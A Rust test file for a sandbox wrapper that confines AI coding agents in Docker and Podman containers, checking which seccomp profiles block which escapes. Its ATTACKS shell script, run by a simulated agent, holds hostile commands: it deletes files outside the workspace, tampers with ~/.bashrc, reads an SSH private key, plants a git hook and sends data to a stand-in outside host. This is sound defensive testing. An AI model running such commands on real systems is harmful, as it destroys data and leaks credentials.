//! The floor in a container (docs/floor.md, "In a container"): the wrapper started as Docker
//! starts a container's process, by tests/container/launch.py with the engine's own defaults
//! (Debian's moby 20.10 source, unpacked by tests/container/setup.sh): its default seccomp
//! profile compiled into a filter, its default capability set as root, `no_new_privs`, its
//! masked and read-only paths (`/proc/sys`) in a mount namespace, and a network namespace
//! whose 198.51.100.1 stands for the world outside. A hookless shell agent then attacks each
//! part of the floor, and each result is read from the disk or from what reached the outside
//! server: with `--floor off`, under Docker's default profile, under Podman's (with its
//! capability set, from Debian's containers-common), and under the profile `ahp-wrap setup
//! container-profile` writes from Docker's. The table of what holds is
//! printed (on the test's stderr, past libtest's capture, so that CI's log shows it). The
//! devcontainer and GitLab CI examples' floor steps run there too, under the profile their
//! comments write.
//!
//! The run's world lives under the target directory, not under /tmp: the temp directories are
//! writable on the floor, so a victim there would prove nothing.

use ahp_wrap_testkit::common;

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::Duration;

use common::*;

/// Docker's own defaults, as tests/container/setup.sh unpacked them.
fn engine_source() -> PathBuf {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/.cache/container/moby");
    assert!(
        dir.join("profiles/seccomp/default.json").exists()
            && podman_source().join("seccomp.json").exists(),
        "Docker's and Podman's default profiles are not in {}: run tests/container/setup.sh first",
        dir.parent().unwrap().display()
    );
    dir
}

/// Podman's own defaults (containers-common), as tests/container/setup.sh unpacked them.
fn podman_source() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/.cache/container/containers-common")
}

/// The launcher and its arguments before the command: `profile`, with Podman's capability
/// set where it is Podman's profile, else Docker's.
fn launcher(profile: &Path, log: &Path) -> Command {
    let launch = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/container/launch.py");
    let mut cmd = Command::new(PYTHON);
    cmd.arg(launch);
    if profile.parent() == Some(podman_source().as_path()) {
        cmd.arg("--caps")
            .arg(podman_source().join("containers.conf"));
    }
    cmd.arg(profile).arg(engine_source()).arg(log);
    cmd
}

/// libseccomp's Python binding, which compiles a profile as the engine does.
const PYTHON: &str = "/usr/bin/python3";

/// What the agent does, one act a part of the floor; each leaves its trace where the test
/// reads it.
const ATTACKS: &str = r#"
rm -rf "$VICTIM" 2>/dev/null
/usr/bin/python3 -c 'import os; open(os.path.expanduser("~/.bashrc"), "a").write("evil\n")' 2>/dev/null
cat ~/.ssh/id_rsa > leaked 2>/dev/null
echo 'echo planted' > .git/hooks/pre-commit 2>/dev/null
/usr/bin/python3 -c '
import socket
s = socket.create_connection(("198.51.100.1", 80), timeout=3)
s.sendall(b"exfiltrated")
s.close()' 2>/dev/null
kill -0 "${AHP_WRAP_PARENT_PID:-$PPID}" 2>/dev/null && echo yes > signalled
[ -d "/proc/$(cat "$SERVER_PID")" ] && echo yes > sees-outside
read -r pid _ < /proc/self/stat; [ "$pid" = "$$" ] || echo yes > renumbered
echo done > ran
"#;

/// A workspace (a git repository), a home with a key and a start-up file, and a victim
/// outside both.
struct World {
    _dir: tempfile::TempDir,
    root: PathBuf,
}

/// What the attacks left: `true` where the act did its damage.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Damage {
    ran: bool,
    deleted_outside: bool,
    rc_written: bool,
    key_read: bool,
    hook_planted: bool,
    egress: bool,
    signalled: bool,
    sees_outside: bool,
    /// The shell's own number is not the one its `/proc` gives it (a PID namespace under an
    /// old `/proc`: `kill $(pgrep …)` would miss the tree's own processes).
    renumbered: bool,
}

impl World {
    fn new() -> World {
        let (dir, root) = outside_tree(
            "floor-container-",
            &["ws"],
            &[
                ("home/.ssh/id_rsa", "PRIVATE KEY\n"),
                ("home/.bashrc", "# rc\n"),
                ("victim/file", "precious\n"),
            ],
        );
        let git = Command::new("git")
            .args(["init", "-q"])
            .current_dir(root.join("ws"))
            .output()
            .unwrap();
        assert!(git.status.success(), "{}", show(&git));
        World { _dir: dir, root }
    }

    fn ws(&self) -> PathBuf {
        self.root.join("ws")
    }

    /// `args` run by the launcher under `profile`, as a container's process.
    fn in_container(&self, profile: &Path, args: &[&str]) -> Output {
        let mut cmd = launcher(profile, &self.root.join("outside.log"));
        cmd.arg("--")
            .arg(wrap_bin())
            .args(args)
            .current_dir(self.ws())
            .env("HOME", self.root.join("home"))
            .env("VICTIM", self.root.join("victim"))
            .env("SERVER_PID", self.root.join("outside.log.pid"))
            .env_remove("AHP_WRAP_FLOOR");
        run(&mut cmd, Duration::from_secs(60))
    }

    /// The attacks, as a hookless agent of a run with `flags`.
    fn attack(&self, profile: &Path, flags: &[&str]) -> (Output, Damage) {
        let audit = self.root.join("audit.jsonl");
        let audit = audit.to_str().unwrap();
        let mut args = vec!["--no-intercept", "--summary", "never", "--audit-log", audit];
        args.extend(flags);
        args.extend(["--", "sh", "-c", ATTACKS]);
        let out = self.in_container(profile, &args);
        let ws = self.ws();
        let has = |p: PathBuf| p.exists();
        let damage = Damage {
            ran: has(ws.join("ran")),
            deleted_outside: !has(self.root.join("victim/file")),
            rc_written: std::fs::read_to_string(self.root.join("home/.bashrc")).unwrap()
                != "# rc\n",
            key_read: std::fs::read_to_string(ws.join("leaked"))
                .is_ok_and(|s| s.contains("PRIVATE KEY")),
            hook_planted: has(ws.join(".git/hooks/pre-commit")),
            egress: std::fs::read_to_string(self.root.join("outside.log"))
                .is_ok_and(|s| s.contains("exfiltrated")),
            signalled: has(ws.join("signalled")),
            sees_outside: has(ws.join("sees-outside")),
            renumbered: has(ws.join("renumbered")),
        };
        (out, damage)
    }
}

/// `ahp-wrap setup container-profile --from <Docker's default> --output FILE`, the
/// documented step; its stderr.
fn documented_profile(into: &Path) -> (PathBuf, String) {
    let file = into.join("ahp-wrap-seccomp.json");
    let out = run(
        Command::new(wrap_bin())
            .args(["setup", "container-profile", "--from"])
            .arg(engine_source().join("profiles/seccomp/default.json"))
            .arg("--output")
            .arg(&file),
        Duration::from_secs(30),
    );
    assert!(out.status.success(), "{}", show(&out));
    (file, String::from_utf8_lossy(&out.stderr).into_owned())
}

/// One row of the table: the part, and what each column saw.
fn row(part: &str, cells: [bool; 4], held: &str, lost: &str) -> String {
    let cell = |damage: bool| if damage { lost } else { held };
    format!(
        "| {part:<38} | {:<14} | {:<14} | {:<14} | {:<14} |\n",
        cell(cells[0]),
        cell(cells[1]),
        cell(cells[2]),
        cell(cells[3])
    )
}

#[test]
#[cfg_attr(
    skip_e2e = "container",
    ignore = "tests/container/setup.sh skipped (AHP_WRAP_SKIP_AGENT_E2E)"
)]
fn the_floor_in_a_container_under_the_engines_default_profiles_and_under_ours() {
    let scratch = tempfile::tempdir().unwrap();
    let default = engine_source().join("profiles/seccomp/default.json");
    let (ours, said) = documented_profile(scratch.path());
    assert!(
        said.contains("allowed without CAP_SYS_ADMIN now: unshare, setns, mount, umount2"),
        "{said}"
    );

    let columns = [
        ("--floor off", default.clone(), vec!["--floor", "off"]),
        ("Docker's default", default.clone(), vec![]),
        (
            "Podman's default",
            podman_source().join("seccomp.json"),
            vec![],
        ),
        ("documented profile", ours.clone(), vec![]),
    ];
    let (mut seen, mut audits) = (Vec::new(), Vec::new());
    for (name, profile, flags) in &columns {
        let w = World::new();
        let (out, damage) = w.attack(profile, flags);
        assert!(out.status.success() && damage.ran, "{name}: {}", show(&out));
        audits.push(std::fs::read_to_string(w.root.join("audit.jsonl")).unwrap_or_default());
        seen.push((out, damage));
    }
    let d: Vec<Damage> = seen.iter().map(|(_, d)| *d).collect();
    let pick = |f: fn(&Damage) -> bool| [f(&d[0]), f(&d[1]), f(&d[2]), f(&d[3])];
    let mut table = String::from(
        "\nThe floor in a container (tests/floor_container.rs; the documented profile is \
         Docker's default with setup container-profile's calls):\n\
         | part of the floor (the act)            | --floor off    | Docker default | Podman default | documented     |\n\
         |----------------------------------------|----------------|----------------|----------------|----------------|\n",
    );
    table += &row(
        "files: rm -rf outside the workspace",
        pick(|d| d.deleted_outside),
        "refused",
        "deleted",
    );
    table += &row(
        "files: Python appends to ~/.bashrc",
        pick(|d| d.rc_written),
        "refused",
        "written",
    );
    table += &row(
        "secrets: cat ~/.ssh/id_rsa",
        pick(|d| d.key_read),
        "hidden (empty)",
        "read",
    );
    table += &row(
        "protected paths: .git/hooks/pre-commit",
        pick(|d| d.hook_planted),
        "refused",
        "planted",
    );
    table += &row(
        "network: direct TCP to 198.51.100.1",
        pick(|d| d.egress),
        "never arrives",
        "arrives",
    );
    table += &row(
        "signals: kill -0 the wrapper",
        pick(|d| d.signalled),
        "refused",
        "signalled",
    );
    table += &row(
        "processes: sees one outside the tree",
        pick(|d| d.sees_outside),
        "hidden",
        "seen",
    );
    let _ = std::io::stderr().write_all(table.as_bytes());

    // Every act does its damage without the floor: each check below can fail.
    let off = d[0];
    assert!(
        off.deleted_outside
            && off.rc_written
            && off.key_read
            && off.hook_planted
            && off.egress
            && off.signalled
            && off.sees_outside,
        "{off:?}\n{}",
        show(&seen[0].0)
    );

    // Docker's default profile: no namespaces, so nothing hidden and nothing bound;
    // Landlock still refuses the writes and the signal, the connection to a host the policy
    // does not name is refused without a network namespace (and audited, with its
    // process), and the run says what it lacks before the agent starts, the secrets by name.
    let (out, dflt) = (&seen[1].0, d[1]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        !dflt.deleted_outside && !dflt.rc_written && !dflt.signalled && !dflt.egress,
        "{dflt:?}\n{}",
        show(out)
    );
    assert!(
        dflt.key_read && dflt.hook_planted,
        "{dflt:?}\n{}",
        show(out)
    );
    let audit = &audits[1];
    assert!(
        audit
            .lines()
            .any(|l| l.contains("198.51.100.1") && l.contains("python3")),
        "the refused connection is not in the audit log:\n{audit}\n{}",
        show(out)
    );
    for said in [
        "seccomp profile refuses unshare(2) (Operation not permitted)",
        "ahp-wrap setup container-profile",
        "secrets: readable by the agent's tree, since no mount can hide them here: ~/.ssh",
        "network: without a namespace of its own the tree has no resolver",
    ] {
        assert!(stderr.contains(said), "not said: {said}\n{}", show(out));
    }

    // Podman's default profile allows the namespace calls, and the documented profile adds
    // them to Docker's: every part holds as on the host, but the tree's own /proc, which the
    // kernel refuses over the engine's partly covered one (docs/floor.md says so: change it
    // with this). The run says so before the agent starts, and that alone; the tree gets
    // no PID namespace under the old /proc (Landlock keeps its signals in, as the signals
    // row shows), so its processes' numbers are the ones its /proc lists.
    for (column, (out, damage)) in columns.iter().zip(&seen).skip(2) {
        assert!(
            !damage.deleted_outside
                && !damage.rc_written
                && !damage.key_read
                && !damage.hook_planted
                && !damage.egress
                && !damage.signalled
                && damage.sees_outside
                && !damage.renumbered,
            "{}: {damage:?}\n{}",
            column.0,
            show(out)
        );
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(
            stderr.contains(&format!(
                "ahp-wrap: warning: floor: not enforced here: {PROC_REFUSED}\n"
            )) && !stderr.contains("sees only its own"),
            "{}: {}",
            column.0,
            show(out)
        );
    }
}

/// What a run says of the tree's processes where the engine's masked `/proc` refuses it one
/// of its own.
const PROC_REFUSED: &str = "processes: the tree sees every process of this machine: the kernel \
     refuses a /proc of its own over this container's partly covered one (Docker: \
     --security-opt systempaths=unconfined, Podman: --security-opt unmask=ALL, Kubernetes: \
     procMount: Unmasked)";

#[test]
#[cfg_attr(
    skip_e2e = "container",
    ignore = "tests/container/setup.sh skipped (AHP_WRAP_SKIP_AGENT_E2E)"
)]
fn require_floor_refuses_the_default_container_and_runs_in_the_documented_one() {
    let scratch = tempfile::tempdir().unwrap();
    let default = engine_source().join("profiles/seccomp/default.json");
    let (ours, _) = documented_profile(scratch.path());
    let w = World::new();
    let args = [
        "--no-intercept",
        "--summary",
        "never",
        "--require-floor",
        "--",
        "sh",
        "-c",
        "echo done > ran",
    ];
    let out = w.in_container(&default, &args);
    assert_eq!(out.status.code(), Some(125), "{}", show(&out));
    assert!(
        !w.ws().join("ran").exists(),
        "the agent ran: {}",
        show(&out)
    );
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("refuses unshare(2)"),
        "{}",
        show(&out)
    );
    let out = w.in_container(&ours, &args);
    assert!(
        out.status.success() && w.ws().join("ran").exists(),
        "{}",
        show(&out)
    );
}

#[test]
#[cfg_attr(
    skip_e2e = "container",
    ignore = "tests/container/setup.sh skipped (AHP_WRAP_SKIP_AGENT_E2E)"
)]
fn policy_floor_and_doctor_in_the_default_container_say_what_is_missing_and_why() {
    let w = World::new();
    let default = engine_source().join("profiles/seccomp/default.json");
    let out = w.in_container(&default, &["policy", "floor"]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    for said in [
        "files: written only beneath",
        "signals: the agent's tree cannot signal the wrapper",
        "network: decided per connection without a namespace of its own",
        "seccomp profile refuses unshare(2)",
        "secrets: readable by the agent's tree, since no mount can hide them here: ~/.ssh",
    ] {
        assert!(stdout.contains(said), "not said: {said}\n{}", show(&out));
    }
    // doctor says the same, in its JSON's list of what is missing.
    let out = w.in_container(&default, &["doctor", "--json"]);
    let report: serde_json::Value =
        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {}", show(&out)));
    let missing = report["floor"]["missing"].to_string();
    for said in [
        "seccomp profile refuses unshare(2)",
        "no mount can hide them here: ~/.ssh",
    ] {
        assert!(missing.contains(said), "not said: {said}\n{}", show(&out));
    }
}

/// `line` run by `sh` as a container's process under `profile`, with this build's `ahp-wrap`
/// first on PATH (as the image has it installed).
fn sh_in_container(w: &World, profile: &Path, line: &str) -> Output {
    let bin = wrap_bin();
    let path = format!(
        "{}:{}",
        bin.parent().unwrap().display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let mut cmd = launcher(profile, &w.root.join("outside.log"));
    cmd.args(["--", "sh", "-c", line])
        .current_dir(w.ws())
        .env("PATH", path)
        .env("HOME", w.root.join("home"))
        .env("CI_PROJECT_DIR", w.ws())
        .env_remove("AHP_WRAP_FLOOR");
    run(&mut cmd, Duration::from_secs(60))
}

/// The `ahp-wrap setup container-profile …` command an example's comment gives, run as
/// written, with `default.json` the engine's own and `place` the directory its `--output`
/// names standing for `scratch`; the profile written.
fn run_the_examples_setup(text: &str, place: &str, scratch: &Path) -> PathBuf {
    let line = text
        .lines()
        .find_map(|l| l.split_once("ahp-wrap setup container-profile"))
        .map(|(_, rest)| rest.trim())
        .expect("the example says how to write the profile");
    let default = engine_source().join("profiles/seccomp/default.json");
    let mut args = vec!["setup".to_owned(), "container-profile".to_owned()];
    let mut written = None;
    for word in line.split_whitespace() {
        let word = match word {
            "default.json" => default.display().to_string(),
            w if w.starts_with(place) => {
                let file = scratch.join(w.strip_prefix(place).unwrap().trim_start_matches('/'));
                std::fs::create_dir_all(file.parent().unwrap()).unwrap();
                written = Some(file.clone());
                file.display().to_string()
            }
            w => w.to_owned(),
        };
        args.push(word);
    }
    let out = run(
        Command::new(wrap_bin()).args(&args),
        Duration::from_secs(30),
    );
    assert!(out.status.success(), "{}", show(&out));
    written.expect("the command writes the profile where the example reads it")
}

#[test]
#[cfg_attr(
    skip_e2e = "container",
    ignore = "tests/container/setup.sh skipped (AHP_WRAP_SKIP_AGENT_E2E)"
)]
fn the_devcontainer_example_gives_the_whole_floor() {
    let file =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/devcontainer/devcontainer.json");
    let text = std::fs::read_to_string(file).unwrap();
    // JSON with comments, as devcontainer.json is: the comment lines out.
    let json: String = text
        .lines()
        .filter(|l| !l.trim_start().starts_with("//"))
        .collect::<Vec<_>>()
        .join("\n");
    let config: serde_json::Value = serde_json::from_str(&json).unwrap();
    let run_args: Vec<&str> = config["runArgs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a.as_str().unwrap())
        .collect();
    let at = run_args
        .iter()
        .position(|a| *a == "--security-opt")
        .unwrap();
    let seccomp = run_args[at + 1].strip_prefix("seccomp=").unwrap();
    // The folder the devcontainer is opened in, on the machine Docker runs on.
    let w = World::new();
    let folder = w.root.join("folder");
    let written = run_the_examples_setup(&text, ".devcontainer", &folder.join(".devcontainer"));
    let profile =
        PathBuf::from(seccomp.replace("${localWorkspaceFolder}", &folder.display().to_string()));
    assert_eq!(
        profile, written,
        "runArgs names another file than the one the comment writes"
    );
    let post_create = config["postCreateCommand"].as_str().unwrap();
    let out = sh_in_container(&w, &profile, post_create);
    assert!(out.status.success(), "{}", show(&out));
    // Under Docker's own default the same command fails, saying why.
    let out = sh_in_container(
        &w,
        &engine_source().join("profiles/seccomp/default.json"),
        post_create,
    );
    assert_eq!(out.status.code(), Some(125), "{}", show(&out));
}

#[test]
#[cfg_attr(
    skip_e2e = "container",
    ignore = "tests/container/setup.sh skipped (AHP_WRAP_SKIP_AGENT_E2E)"
)]
fn the_gitlab_ci_example_runs_its_floor_checks_under_the_runners_profile() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/gitlab-ci");
    let runner = std::fs::read_to_string(dir.join("runner-config.toml")).unwrap();
    let config: toml::Value = toml::from_str(&runner).unwrap();
    let docker = &config["runners"][0]["docker"];
    let opts: Vec<&str> = docker["security_opt"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| o.as_str().unwrap())
        .collect();
    let seccomp = opts
        .iter()
        .find_map(|o| o.strip_prefix("seccomp="))
        .unwrap();
    let w = World::new();
    let etc = w.root.join("etc-gitlab-runner");
    let written = run_the_examples_setup(&runner, "/etc/gitlab-runner", &etc);
    let profile = etc.join(seccomp.strip_prefix("/etc/gitlab-runner/").unwrap());
    assert_eq!(profile, written);
    let job: serde_norway::Value =
        serde_norway::from_str(&std::fs::read_to_string(dir.join(".gitlab-ci.yml")).unwrap())
            .unwrap();
    let script: Vec<&str> = job["agent"]["script"]
        .as_sequence()
        .unwrap()
        .iter()
        .map(|l| l.as_str().unwrap())
        .collect();
    // The agent's own step needs the model; the steps before it run as the job runs them.
    let (agent, checks): (Vec<&str>, Vec<&str>) =
        script.iter().partition(|l| l.contains(" -- claude "));
    assert!(
        agent.len() == 1 && agent[0].contains("--require-floor"),
        "{script:?}"
    );
    for line in &checks {
        let out = sh_in_container(&w, &profile, line);
        assert!(out.status.success(), "{line}: {}", show(&out));
        assert!(
            !String::from_utf8_lossy(&out.stdout).contains("missing:"),
            "{line}: {}",
            show(&out)
        );
    }
    let check = checks
        .iter()
        .find(|l| l.contains("--require-floor"))
        .unwrap();
    let out = sh_in_container(
        &w,
        &engine_source().join("profiles/seccomp/default.json"),
        check,
    );
    assert_eq!(out.status.code(), Some(125), "{}", show(&out));
}

#[test]
fn setup_container_profile_refuses_a_file_that_is_no_profile_and_has_nothing_to_remove() {
    let dir = tempfile::tempdir().unwrap();
    let bad = dir.path().join("bad.json");
    std::fs::write(&bad, "{\"defaultAction\": \"SCMP_ACT_ALLOW\"}").unwrap();
    let out = dir.path().join("out.json");
    let said = run(
        Command::new(wrap_bin())
            .args(["setup", "container-profile", "--from"])
            .arg(&bad)
            .arg("--output")
            .arg(&out),
        Duration::from_secs(30),
    );
    assert_eq!(said.status.code(), Some(1), "{}", show(&said));
    assert!(
        String::from_utf8_lossy(&said.stderr).contains("not a container engine's seccomp profile"),
        "{}",
        show(&said)
    );
    assert!(
        !out.exists(),
        "a profile was written from a file that is none"
    );
    let said = run(
        Command::new(wrap_bin()).args(["setup", "container-profile", "--remove"]),
        Duration::from_secs(30),
    );
    assert_eq!(said.status.code(), Some(2), "{}", show(&said));
}
